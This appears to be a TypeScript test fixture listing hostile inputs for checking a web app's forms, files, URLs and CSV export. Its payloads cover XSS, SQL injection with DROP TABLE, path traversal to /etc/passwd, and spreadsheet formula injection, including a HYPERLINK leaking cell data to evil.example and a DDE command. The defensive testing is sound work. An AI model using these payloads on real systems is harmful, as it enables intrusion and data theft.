import { hasControlCharacters } from "~/domain/text";

// What an attacker, a broken client or a careless copy-paste puts into a form, a file or a URL:
// each kind named, so a failing check says which. Every payload that could run as script calls
// alert(1) and sets window.__hostile, so a browser test sees it run (a dialog, or the flag).

export interface HostileKind {
  name: string;
  /** The value as a string (what a browser would type or paste). */
  value: string;
  /**
   * The value as it goes into an application/x-www-form-urlencoded body or a CSV file, when it
   * is not the UTF-8 of `value`: bytes no string can hold (invalid UTF-8, a lone surrogate).
   */
  bytes?: Uint8Array;
}

/** What a script-capable payload runs: observable in Chromium as a dialog and as window.__hostile. */
export const SCRIPT_EFFECT = "window.__hostile=1;alert(1)";

const MEGABYTE = 1024 * 1024;

/**
 * About a megabyte of Vietnamese words in a fixed pseudo-random order: long pasted text, not
 * padding (an XLSX of one letter repeated compresses like a zip bomb, and is refused as one).
 */
function megabyteOfText(): string {
  const syllables = ["giấy", "phép", "kinh", "doanh", "thủ", "tục", "hành", "chính", "điều", "kiện", "quy", "định", "đơn", "giản", "hóa", "cắt", "giảm", "<b>", "&amp;", "'", '"', "=", "1e9"];
  const words: string[] = [];
  let length = 0;
  for (let seed = 11; length < MEGABYTE; ) {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    const word = syllables[seed % syllables.length]!;
    words.push(word);
    length += new TextEncoder().encode(word).length + 1;
  }
  return words.join(" ");
}

/** A value as the raw bytes of a form or file: the UTF-8 of the text with some bytes no UTF-8 text has. */
const invalidUtf8 = Uint8Array.from([0x61, 0xff, 0xfe, 0xc3, 0x62, 0xed, 0xa0, 0x80, 0x63]);

export const HOSTILE_KINDS: readonly HostileKind[] = [
  { name: "script tag", value: `<script>${SCRIPT_EFFECT}</script>` },
  { name: "img onerror", value: `<img src=x onerror="${SCRIPT_EFFECT}">` },
  { name: "svg onload", value: `<svg onload="${SCRIPT_EFFECT}"></svg>` },
  { name: "javascript: link", value: `javascript:${SCRIPT_EFFECT}//` },
  { name: "attribute breakout", value: `"><script>${SCRIPT_EFFECT}</script><a title="` },
  { name: "single-quoted attribute breakout", value: `' autofocus onfocus='${SCRIPT_EFFECT}' x='` },
  { name: "SQL tautology", value: "' OR 1=1 --" },
  { name: "SQL drop", value: "'; DROP TABLE proposals; --" },
  { name: "FTS5 syntax", value: '"unbalanced NEAR( * title:giay AND OR NOT ^ -' },
  { name: "RTL override and zero-width", value: "\u202Egnp.exe\u200B\u200C\u200D\uFEFF" },
  { name: "C0 controls and NUL", value: "a\u0000b\u0001\u0007\u0008\u001B[31mc\u007F" },
  // decoded as a server decodes them: each invalid byte one U+FFFD
  { name: "invalid UTF-8 and a lone surrogate", value: "a\uFFFD\uFFFD\uFFFDb\uFFFD\uFFFD\uFFFDc", bytes: invalidUtf8 },
  { name: "1 MB string", value: megabyteOfText() },
  { name: "huge number", value: "99999999999999999999999" },
  { name: "float overflow", value: "1e309" },
  { name: "negative number", value: "-1" },
  { name: "negative zero", value: "-0" },
  { name: "NaN", value: "NaN" },
  { name: "Infinity", value: "-Infinity" },
  { name: "31 February", value: "31/02/2026" },
  { name: "zero date", value: "00/00/0000" },
  { name: "ISO date out of range", value: "9999-99-99" },
  { name: "month 13", value: "2026-13-45" },
  { name: "HYPERLINK formula", value: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")' },
  { name: "DDE formula", value: "+cmd|' /C calc'!A0" },
  { name: "minus formula", value: "-2+3" },
  { name: "at formula", value: "@SUM(1)" },
  { name: "tab and CR before a formula", value: "\t\r=1+1" },
  { name: "template injection", value: `{{constructor.constructor('${SCRIPT_EFFECT}')()}}\${${SCRIPT_EFFECT}}` },
  { name: "path traversal", value: "../../../../etc/passwd" },
  { name: "combining marks overflow", value: `a${"\u0301\u0323\u0309".repeat(300)}` },
  { name: "NFD Vietnamese", value: "Giấy phép kinh doanh thuốc Việt Nam".normalize("NFD") },
];

/** The bytes a kind puts into a form body or a file. */
export function hostileBytes(kind: HostileKind): Uint8Array {
  return kind.bytes ?? new TextEncoder().encode(kind.value);
}

const encoded = new Map<HostileKind, string>();

/** A kind's value percent-encoded for an application/x-www-form-urlencoded body, its raw bytes kept (made once: a megabyte takes a while). */
export function formEncoded(kind: HostileKind): string {
  let value = encoded.get(kind);
  if (value === undefined) {
    value = Buffer.from(hostileBytes(kind)).toString("hex").toUpperCase().replace(/../g, "%$&");
    encoded.set(kind, value);
  }
  return value;
}

export const MEGABYTE_KIND = HOSTILE_KINDS.find((kind) => kind.name === "1 MB string")!;

/** Kinds with C0 control characters (other than tab and line breaks), which no text file holds. */
export const CONTROL_KINDS = HOSTILE_KINDS.filter((kind) => hasControlCharacters(kind.value));

/** The kinds whose text could run as script if a page put it into its HTML unescaped. */
export const SCRIPT_KINDS = HOSTILE_KINDS.filter((kind) => kind.value.includes(SCRIPT_EFFECT));

/** Kinds a spreadsheet would run as a formula if written as they are. */
export const FORMULA_KINDS = HOSTILE_KINDS.filter((kind) => /^[=+\-@\t\r]/.test(kind.value));

/** Path segments where a record's id or code goes, each percent-encoded as it is sent. */
export const ODD_IDS: readonly { name: string; segment: string }[] = [
  { name: "NUL", segment: "%00" },
  { name: "encoded traversal", segment: "..%2f..%2fetc%2fpasswd" },
  { name: "negative", segment: "-1" },
  { name: "zero", segment: "0" },
  { name: "hexadecimal", segment: "0x10" },
  { name: "exponent", segment: "1e3" },
  { name: "beyond 2^63", segment: "9999999999999999999" },
  { name: "very long", segment: "9".repeat(4000) },
  { name: "script tag", segment: encodeURIComponent(`<script>${SCRIPT_EFFECT}</script>`) },
  { name: "SQL", segment: encodeURIComponent("1' OR '1'='1") },
  { name: "invalid UTF-8", segment: "%FF%FE%C3" },
  { name: "spaces", segment: "%20%20" },
];
